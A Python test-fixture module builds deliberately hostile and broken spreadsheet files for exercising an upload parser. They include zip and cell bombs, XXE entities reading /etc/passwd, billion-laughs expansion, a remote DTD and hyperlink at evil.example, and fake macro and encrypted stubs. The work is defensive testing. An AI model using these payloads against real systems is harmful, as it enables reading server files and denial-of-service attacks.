"""Files that mean harm or have suffered it, written by hand where no program would write them so."""

import io
import random
import zipfile
from collections.abc import Callable
from typing import Any

from openpyxl import Workbook

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def book(*rows: list[Any], change: Callable[[Workbook], object] = lambda made: None) -> bytes:
    made = Workbook()
    for row in rows:
        made.active.append(row)  # type: ignore[union-attr]
    change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def by_hand(
    sheet: str, *, before: str = "", more: dict[str, bytes] | None = None, size: str = "A1:A2"
) -> bytes:
    """The smallest workbook there is, with this in its sheet and this before the sheet's first element."""
    members: dict[str, bytes] = {
        "[Content_Types].xml": (
            f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels"'
            ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{OFFICE}.worksheet+xml"/></Types>'
        ).encode(),
        "_rels/.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1"'
            f' Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>'
            '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1"'
            f' Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ).encode(),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}">'
            f'<dimension ref="{size}"/><sheetData>{sheet}</sheetData></worksheet>'
        ).encode(),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in (members | (more or {})).items():
            packed.writestr(name, content)
    return out.getvalue()


def cell(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


ROWS = f'<row r="1">{cell("A1", "Dansk navn")}</row><row r="2">{cell("A2", "Bomben")}</row>'


def bomb_of_size() -> bytes:
    """Sixty million spaces, which pack to almost nothing."""
    return by_hand(ROWS, more={"xl/media/a.bin": b" " * 60_000_000})


def bomb_of_members() -> bytes:
    return by_hand(ROWS, more={f"xl/media/{number}.bin": b"x" for number in range(400)})


def bomb_of_ratio() -> bytes:
    return by_hand(ROWS + " " * 20_000_000)


def file_of_this_machine() -> bytes:
    """What XML may ask for: a file, and a billion laughs."""
    told = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return by_hand(ROWS.replace("Bomben", "&e;"), before=told)


def billion_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    told = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>'
    return by_hand(ROWS.replace("Bomben", "&l9;"), before=told)


def shared_strings_of_this_machine() -> bytes:
    """The same, hidden in another member."""
    told = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    strings = f'<?xml version="1.0"?>{told}<sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
    return by_hand(ROWS, more={"xl/sharedStrings.xml": strings.encode()})


def wide() -> bytes:
    return (";".join(f"K{n}" for n in range(5000)) + "\n" + ";".join("x" * 5000)).encode()


def wide_by_reference() -> bytes:
    """One cell in the last column there is, so that a reader would fill sixteen thousand before it."""
    rows = "".join(f'<row r="{n}">{cell(f"XFD{n}", "x")}</row>' for n in range(1, 500))
    return by_hand(rows)


def long() -> bytes:
    return ("Dansk navn\n" + "En\n" * 60_000).encode()


def long_by_reference() -> bytes:
    """One cell in the last row there is, so that a reader would fill a million before it."""
    return by_hand(
        f'<row r="1">{cell("A1", "Dansk navn")}</row><row r="1048576">{cell("A1048576", "x")}</row>'
    )


def huge_cell() -> bytes:
    return ("Dansk navn\n" + "x" * 200_000 + "\n").encode()


def formula() -> bytes:
    return book(["Dansk navn"], ['=HYPERLINK("https://evil.example","Klik")'])


def formula_with_a_value() -> bytes:
    """What Excel saves: the formula and what it last showed."""
    shown = '<row r="2"><c r="A2" t="str"><f>CONCAT("A","B")</f><v>Vist</v></c></row>'
    return by_hand(f'<row r="1">{cell("A1", "Dansk navn")}</row>{shown}')


def external_link() -> bytes:
    link = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{RELATIONS}"><externalBook r:id="rId1"/></externalLink>'
    ).encode()
    return by_hand(ROWS, more={"xl/externalLinks/externalLink1.xml": link})


def macros() -> bytes:
    return by_hand(ROWS, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub Auto_Open()" * 50})


def with_a_password() -> bytes:
    """What Excel makes of a workbook with a password: an old compound file, not a zip."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage" * 200


def zip_with_a_password() -> bytes:
    made = bytearray(by_hand(ROWS))
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = made.find(mark)
        made[place + at] |= 1
    return bytes(made)


def padded(sheet: str, **more: str) -> bytes:
    """With as much noise beside it as keeps the file from unpacking to a hundred times its size."""
    members = {f"xl/{name}.xml": content.encode() for name, content in more.items()}
    return by_hand(sheet, more={"xl/media/a.bin": random.Random(1).randbytes(500_000), **members})


def bomb_of_cells() -> bytes:
    """Eight million cells in one row, which a reader makes eight million objects of."""
    return padded(f'<row r="1">{"<c/>" * 8_000_000}</row>')


def bomb_of_texts() -> bytes:
    return padded(ROWS, sharedStrings=f'<sst xmlns="{MAIN}">{"<si/>" * 8_000_000}</sst>')


def bomb_of_rows() -> bytes:
    return padded("<row></row>" * 3_000_000)


def bomb_of_styles() -> bytes:
    """Each is a large object to a reader: half a minute and gigabytes."""
    return padded(
        ROWS, styles=f'<styleSheet xmlns="{MAIN}"><cellXfs>{"<xf/>" * 1_500_000}</cellXfs></styleSheet>'
    )


def bomb_of_far_cells() -> bytes:
    """Nothing in the last column there is, in each row: a reader fills in three hundred million cells."""
    return padded(ROWS + "".join(f'<row r="{n}"><c r="XFD{n}"/></row>' for n in range(3, 19_000)))


def formulas_of_one_another() -> bytes:
    """A long formula that hundreds of cells share, each of which a reader would work it out for."""
    shared = '<f t="shared" si="0"/>'
    formula = f'<f t="shared" si="0" ref="A2:A400">{"A1+" * 20_000}A1</f>'
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str">{formula if n == 2 else shared}<v>Bomben</v></c></row>'
        for n in range(2, 400)
    )
    return padded(f'<row r="1">{cell("A1", "Dansk navn")}</row>{rows}')


def packed_badly() -> bytes:
    """The sheet's own bytes are none that can be unpacked, though the list of members is sound."""
    made = bytearray(by_hand(ROWS))
    at = made.find(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    made[at : at + 20] = b"\xff" * 20
    return bytes(made)


def name_that_is_no_text() -> bytes:
    """A member whose name says it is UTF-8 and is not."""
    made = bytearray(by_hand(ROWS, more={"xl/ø.bin": b"x"}))
    for at in (made.find("ø".encode()), made.rfind("ø".encode())):
        made[at : at + 2] = b"\xff\xff"
    return bytes(made)


def string_that_is_nowhere() -> bytes:
    return by_hand('<row r="1"><c r="A1" t="s"><v>99</v></c></row>')


def laughs_in_other_letters() -> bytes:
    """Instructions in UTF-16, which nobody finds who looks for them as they are mostly written."""
    told = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "ha">]>'
    strings = f'{told}<sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
    return by_hand(ROWS, more={"xl/sharedStrings.xml": strings.encode("utf-16")})


def instructions_far_down() -> bytes:
    told = f'<!--{" " * 3000}--><!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'
    return by_hand(ROWS, before=told)


def empty_rows() -> bytes:
    return b"Dansk navn\nEn\n" + b"\n" * 9_000_000


def a_million_rows_of_nothing() -> bytes:
    """A sheet that says it is as large as a sheet can be, as one has whose every row was painted once."""
    rows = "".join(f'<row r="{number}">{cell(f"A{number}", "Bomben")}</row>' for number in range(2, 400))
    return by_hand(f'<row r="1">{cell("A1", "Dansk navn")}</row>{rows}', size="A1:XFD1048576")
